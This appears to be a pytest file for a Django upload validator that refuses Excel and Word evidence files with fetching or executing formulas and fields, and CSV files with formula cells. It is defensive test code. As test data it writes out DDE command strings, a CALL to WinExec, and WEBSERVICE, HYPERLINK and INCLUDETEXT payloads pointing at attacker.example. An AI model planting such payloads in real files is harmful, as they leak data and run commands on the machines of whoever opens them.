"""Office fields and formulas that run or fetch, and CSV formula cells: refused as evidence with a
Japanese reason; ordinary fields, formulas and numbers are accepted."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from filings.formulas import field_keyword, formula_function, is_formula_cell
from filings.uploads import inspect_upload
from tests.filings.test_uploads import field, office, word

SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def sheet(*cells: str) -> str:
    return (
        f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1">{"".join(cells)}</row>'
        "</sheetData></worksheet>"
    )


def formula(text: str) -> str:
    return f'<c r="A1"><f>{text}</f><v>0</v></c>'


def refusal(name: str, content: bytes | str) -> str:
    data = content.encode() if isinstance(content, str) else content
    with pytest.raises(ValidationError) as error:
        inspect_upload(SimpleUploadedFile(name, data))
    return " ".join(error.value.messages)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('WEBSERVICE("http://attacker.example/?"&amp;A2)', "WEBSERVICE"),
        ('_xlfn.WEBSERVICE("http://x/")', "WEBSERVICE"),
        ('FILTERXML(WEBSERVICE("http://x/"),"//a")', "FILTERXML"),
        ('HYPERLINK("http://attacker.example/","click")', "HYPERLINK"),
        ('_xlfn.IMAGE("http://attacker.example/a.png")', "IMAGE"),
        ('RTD("server",,"topic")', "RTD"),
        ("cmd|' /C calc'!A0", "DDE"),
        ("msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", "DDE"),
        ('CALL("kernel32","WinExec","JCJ","calc",0)', "CALL"),
    ],
)
def test_xlsx_formulas_that_fetch_or_run_are_refused_with_the_function(text, name):
    xlsx = office("xl/", {"xl/worksheets/sheet1.xml": sheet(formula(text))})
    message = refusal("台帳.xlsx", xlsx)
    assert name in message
    assert "受け付けられません" in message


def test_a_fetching_formula_in_a_defined_name_or_conditional_format_is_refused():
    workbook = (
        f'<workbook xmlns="{SHEET_NS}"><definedNames><definedName name="x">'
        'WEBSERVICE("http://x/")</definedName></definedNames></workbook>'
    )
    assert "WEBSERVICE" in refusal("台帳.xlsx", office("xl/", {"xl/workbook.xml": workbook}))
    conditional = sheet().replace(
        "</worksheet>",
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        '<formula>HYPERLINK("http://x/")</formula></cfRule></conditionalFormatting></worksheet>',
    )
    xlsx = office("xl/", {"xl/worksheets/sheet1.xml": conditional})
    assert "HYPERLINK" in refusal("台帳.xlsx", xlsx)


def test_ordinary_formulas_and_text_that_mentions_the_functions_are_accepted():
    cells = [
        formula("SUM(B1:B9)"),
        formula('IF(A2&gt;0,"HYPERLINK(x)","a|b")'),  # only strings mention them
        formula("Sheet2!A1*2"),
        '<c r="B1" t="inlineStr"><is><t>=WEBSERVICE("http://x/")</t></is></c>',  # text, not run
    ]
    xlsx = office("xl/", {"xl/worksheets/sheet1.xml": sheet(*cells)})
    assert inspect_upload(SimpleUploadedFile("台帳.xlsx", xlsx)).size == len(xlsx)


@pytest.mark.parametrize(
    "instruction",
    [
        ' INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\a.docx" ',
        ' INCLUDEPICTURE "http://attacker.example/p.png" \\d ',
        ' LINK Excel.Sheet.12 "\\\\\\\\attacker\\\\b.xlsx" "Sheet1!R1C1" \\a ',
        ' IMPORT "http://attacker.example/x.wmf" ',
        " QUOTE 73 78 67 76 85 68 69 84 69 88 84 ",  # INCLUDETEXT spelt in character codes
    ],
)
def test_docx_fields_that_fetch_are_refused(instruction):
    docx = office("word/", {"word/document.xml": word(field(instruction))})
    message = refusal("手順.docx", docx)
    assert "INCLUDE" in message or "LINK" in message or "IMPORT" in message
    assert "受け付けられません" in message


def test_a_fetching_simple_field_is_refused_and_a_hyperlink_field_is_not():
    simple = word('<w:fldSimple w:instr=" INCLUDEPICTURE http://x/a.png "/>')
    assert "INCLUDEPICTURE" in refusal("手順.docx", office("word/", {"word/document.xml": simple}))
    link = word(field(' HYPERLINK "https://www.meti.go.jp/" ') + field(" TOC \\o 1-3 "))
    docx = office("word/", {"word/document.xml": link})
    assert inspect_upload(SimpleUploadedFile("手順.docx", docx)).size == len(docx)


@pytest.mark.parametrize(
    ("content", "line"),
    [
        ("機器,台数\nGW,=1+1\n", 2),
        ('a,b\n=HYPERLINK("http://attacker.example/?"&A1)\n', 2),
        ("=cmd|' /C calc'!A0\n", 1),
        ("x,@SUM(1+1)*cmd|' /C calc'!A0\n", 1),
        ("x,-2+3+cmd|' /C calc'!A0\n", 1),
        ("x,+A1\n", 1),
        ("x;=1+1\n", 1),  # a semicolon-separated file
        ("x,\t=1+1\n", 1),
        ('a,b\nc,"=2+2"\n', 2),  # quoted, still a formula to Excel
    ],
)
def test_csv_evidence_with_formula_cells_is_refused_with_the_line(content, line):
    message = refusal("一覧.csv", content.encode("cp932"))
    assert "数式" in message and str(line) in message


def test_csv_numbers_phone_numbers_and_dashes_are_accepted():
    text = "機器,台数,電話,備考\nGW,-3,+81-3-1234-5678,-\nFW,+2,03-1234-5678,1-2\n"
    assert inspect_upload(SimpleUploadedFile("一覧.csv", text.encode())).content_type == "text/csv"
    # A text file is not opened by spreadsheet programs: its lines are not cells.
    assert inspect_upload(SimpleUploadedFile("メモ.txt", b"=1+1\n")).content_type == "text/plain"


def test_the_rules_name_what_they_find():
    assert field_keyword(" DDEAUTO c:\\x ") == "DDE"
    assert field_keyword(" PAGE ") is None
    assert formula_function("SUM(A1)") is None
    assert formula_function('_xlws.FILTERXML("&lt;a/&gt;","//a")') == "FILTERXML"
    assert is_formula_cell("=1") and not is_formula_cell("-1.5") and not is_formula_cell("")
